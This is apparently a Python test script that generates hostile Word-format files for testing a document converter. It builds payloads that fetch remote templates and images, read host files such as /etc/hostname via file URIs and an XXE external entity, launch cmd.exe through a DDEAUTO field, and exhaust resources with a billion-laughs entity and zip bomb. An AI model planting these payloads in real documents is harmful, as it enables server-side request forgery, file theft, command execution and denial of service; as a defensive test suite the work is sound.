"""Word files made to fetch, to read what is not theirs, or to swell; one by one.

    python -m tests.pdf.hostile_word FOLDER

writes them all into a folder, to be tried on something else.
"""

import sys
from importlib.resources import files
from io import BytesIO
from pathlib import Path
from random import Random
from zipfile import ZIP_DEFLATED, ZipFile

SECRET = "a secret of the host"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PICTURE = """<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/\
drawingml/2006/wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><wp:docPr \
id="1" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/\
main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">\
<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">\
<pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>\
<a:blip r:{how}="evil"/></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext \
cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic>\
</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"""
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_more(docx, body="", kind="image", target="", parts=None):
    """A Word file with something more in its body, and a relation it draws on."""
    with ZipFile(BytesIO(docx)) as package:
        content = {name: package.read(name) for name in package.namelist()}
    document = content["word/document.xml"].decode()
    at = document.rindex("<w:sectPr") if "<w:sectPr" in document else -1
    content["word/document.xml"] = (document[:at] + body + document[at:]).encode()
    mode = "" if parts else ' TargetMode="External"'
    relation = f'<Relationship Id="evil" Type="{R}/{kind}" Target="{target}"{mode}/>'
    rels = "word/_rels/document.xml.rels"
    content[rels] = content[rels].replace(
        b"</Relationships>", relation.encode() + b"</Relationships>"
    )
    content |= parts or {}
    file = BytesIO()
    with ZipFile(file, "w", ZIP_DEFLATED) as package:
        for name, one in content.items():
            package.writestr(name, one)
    return file.getvalue()


def picture_from_the_network(docx, address, secret):
    return with_more(docx, PICTURE.format(how="link"), target=f"{address}/p.png")


def picture_from_the_host(docx, address, secret):
    return with_more(docx, PICTURE.format(how="link"), target=secret.as_uri())


def drawing_that_reads_the_host(docx, address, secret):
    drawing = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/'
        f'xlink"><image xlink:href="{secret.as_uri()}" width="90" height="90"/>'
        f'<image xlink:href="{address}/svg.png" width="9" height="9"/></svg>'
    )
    part = {"word/media/evil.svg": drawing.encode()}
    return with_more(
        docx, PICTURE.format(how="embed"), target="media/evil.svg", parts=part
    )


def field_that_includes_a_file(docx, address, secret):
    field = (
        f"<w:p><w:fldSimple w:instr='INCLUDETEXT \"{secret}\"'><w:r><w:t>x</w:t></w:r>"
        f"</w:fldSimple><w:fldSimple w:instr='INCLUDEPICTURE \"{address}/f.png\"'>"
        "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
    )
    return with_more(docx, field, target=address)


def template_from_the_network(docx, address, secret):
    return with_more(docx, kind="attachedTemplate", target=f"{address}/t.dotm")


def document_within(docx, address, secret):
    return with_more(
        docx, '<w:altChunk r:id="evil"/>', kind="aFChunk", target=f"{address}/c.html"
    )


def part_of_a_master(docx, address, secret):
    return with_more(
        docx,
        '<w:p><w:subDoc r:id="evil"/></w:p>',
        kind="subDocument",
        target=f"{address}/s.docx",
    )


def object_that_is_linked(docx, address, secret):
    linked = (
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:'
        'office" Type="Link" ProgID="Excel.Sheet.12" ShapeID="s" DrawAspect="Content"'
        ' ObjectID="_1" r:id="evil" UpdateMode="Always"/></w:object></w:r></w:p>'
    )
    return with_more(docx, linked, kind="oleObject", target=f"{address}/o.xlsx")


def old_picture_from_the_network(docx, address, secret):
    drawn = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style='
        '"width:90pt;height:90pt"><v:imagedata r:href="evil" r:id="evil"/></v:shape>'
        "</w:pict></w:r></w:p>"
    )
    return with_more(docx, drawn, target=f"{address}/v.png")


def frames_from_the_network(docx, address, secret):
    frames = (
        f'<w:webSettings xmlns:w="{W}" xmlns:r="{R}"><w:frameset><w:frame>'
        '<w:sourceFileName r:id="f"/></w:frame></w:frameset></w:webSettings>'
    )
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="f" Type="{R}/frame"'
        f' Target="{address}/f.html" TargetMode="External"/></Relationships>'
    )
    parts = {
        "word/webSettings.xml": frames.encode(),
        "word/_rels/webSettings.xml.rels": rels.encode(),
    }
    return with_more(docx, kind="webSettings", target="webSettings.xml", parts=parts)


def field_of(instruction):
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r>'
        f"<w:instrText>{instruction}</w:instrText></w:r><w:r><w:fldChar"
        ' w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar'
        ' w:fldCharType="end"/></w:r></w:p>'
    )


def fields_that_link(docx, address, secret):
    body = "".join(
        field_of(one)
        for one in (
            f'LINK Excel.Sheet.12 "{address}/l.xlsx" "A1" \\a',
            f'LINK Word.Document.12 "{secret}" \\a \\t',
            f'DDEAUTO c:\\\\windows\\\\cmd.exe "/k {address}"',
            f'INCLUDETEXT "{secret.as_uri()}"',
            f'RD "{address}/r.docx"',
        )
    )
    return with_more(docx, body, target=address)


def web_page_called_word(docx, address, secret):
    return (
        f'<html><body><img src="{address}/w.png"><img src="{secret.as_uri()}"><iframe'
        f' src="{secret.as_uri()}"></iframe><p>Partnership agreement</body></html>'
    ).encode()


def flat_opendocument_called_word(docx, address, secret):
    namespaces = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{long}:1.0"'
        for short, long in (("office", "office"), ("text", "text"), ("draw", "drawing"))
    )
    section = (
        '<text:section text:name="s"><text:section-source text:filter-name="Text"'
        f' xlink:href="{secret.as_uri()}"/></text:section>'
    )
    return (
        f'<?xml version="1.0"?><office:document {namespaces} xmlns:xlink="http://www.w3'
        '.org/1999/xlink" office:mimetype="application/vnd.oasis.opendocument.text">'
        f"<office:body><office:text>{section}<text:p><draw:frame><draw:image"
        f' xlink:href="{address}/o.png"/></draw:frame></text:p></office:text>'
        "</office:body></office:document>"
    ).encode()


def rich_text_called_word(docx, address, secret):
    fields = (f'INCLUDEPICTURE "{address}/r.png"', f'INCLUDETEXT "{secret}"')
    told = "".join(f"{{\\field{{\\*\\fldinst {one}}}}}" for one in fields)
    return f"{{\\rtf1 {told}}}".encode()


FETCHING = (
    picture_from_the_network,
    picture_from_the_host,
    drawing_that_reads_the_host,
    field_that_includes_a_file,
    template_from_the_network,
    document_within,
    part_of_a_master,
    object_that_is_linked,
    old_picture_from_the_network,
    frames_from_the_network,
    fields_that_link,
    web_page_called_word,
    flat_opendocument_called_word,
    rich_text_called_word,
)


def nothing_at_all(docx, address, secret):
    return b""


def letters_by_chance(docx, address, secret):
    return Random(1).randbytes(20_000)


def cut_in_the_middle(docx, address, secret):
    return docx[: len(docx) // 2]


def protected_with_a_password(docx, address, secret):
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(504)
        + "EncryptedPackage".encode("utf-16-le")
    )


def with_part(docx, name, content):
    """A Word file with another content in the place of a part."""
    with ZipFile(BytesIO(docx)) as package:
        parts = {one: package.read(one) for one in package.namelist()}
    file = BytesIO()
    with ZipFile(file, "w", ZIP_DEFLATED) as package:
        for one, old in (parts | {name: content}).items():
            package.writestr(one, old)
    return file.getvalue()


def swells_when_unpacked(docx, address, secret):
    return with_part(docx, "word/media/large.bin", bytes(400_000_000))


def swells_when_read(docx, address, secret):
    more = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    text = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{more}<!ENTITY out SYSTEM'
        f' "{secret.as_uri()}">]><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>'
        "&e9;&out;</w:t></w:r></w:p></w:body></w:document>"
    )
    return with_part(docx, "word/document.xml", text.encode())


def nested_without_end(docx, address, secret):
    deep = "<w:sdt><w:sdtContent>" * 50_000 + "</w:sdtContent></w:sdt>" * 50_000
    text = f'<w:document xmlns:w="{W}"><w:body>{deep}</w:body></w:document>'
    return with_part(docx, "word/document.xml", text.encode())


BROKEN = (
    nothing_at_all,
    letters_by_chance,
    cut_in_the_middle,
    protected_with_a_password,
    swells_when_unpacked,
    swells_when_read,
    nested_without_end,
)


def main(folder):
    """Write every Word file into a folder."""
    docx = files("templates_docx").joinpath("timetable.docx").read_bytes()
    for make in (*FETCHING, *BROKEN):
        made = make(docx, "http://127.0.0.1:9", Path("/etc/hostname"))
        (Path(folder) / f"{make.__name__}.docx").write_bytes(made)


if __name__ == "__main__":
    main(sys.argv[1])
